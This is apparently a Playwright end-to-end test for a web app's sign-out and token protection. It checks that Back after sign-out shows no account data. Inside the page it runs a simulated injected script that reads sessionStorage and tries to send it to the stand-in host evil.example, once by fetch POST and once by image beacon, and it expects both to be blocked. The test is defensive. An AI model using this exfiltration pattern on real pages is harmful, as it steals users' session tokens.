import { expect, test } from '../support/people.ts';

test('AUT-026, AUT-031: Back after signing out shows nothing, and a script can send the token nowhere', async ({
  as,
  company,
}) => {
  const page = await as(company);
  await page.goto('/account');
  await expect(page.getByLabel('Email, your sign-in name')).toHaveValue(company.email);
  // What a script that got onto the page would do.
  const sent = await page.evaluate(async () => {
    const token = JSON.stringify(sessionStorage);
    const tries = [
      fetch('https://evil.example/?token', { method: 'POST', body: token, mode: 'no-cors' }).then(() => 'sent'),
      new Promise((resolve) => {
        const image = new Image();
        image.addEventListener('load', () => resolve('sent'));
        image.addEventListener('error', () => resolve('blocked'));
        image.src = `https://evil.example/?${encodeURIComponent(token)}`;
      }),
    ];
    const answers = await Promise.all(tries.map((one) => Promise.resolve(one).catch(() => 'blocked')));
    return { answers, hasToken: token.length > 20, cookie: document.cookie };
  });
  expect(sent).toEqual({ answers: ['blocked', 'blocked'], hasToken: true, cookie: '' });

  await page.getByRole('button', { name: /^Account of/ }).click();
  await expect(page.getByText(/^Version \d+\.\d+\.\d+/)).toBeVisible();
  await page.getByRole('menuitem', { name: 'Sign out' }).click();
  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible();
  await page.goBack();
  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible();
  await expect(page.getByText(company.email)).toHaveCount(0);
  expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
});
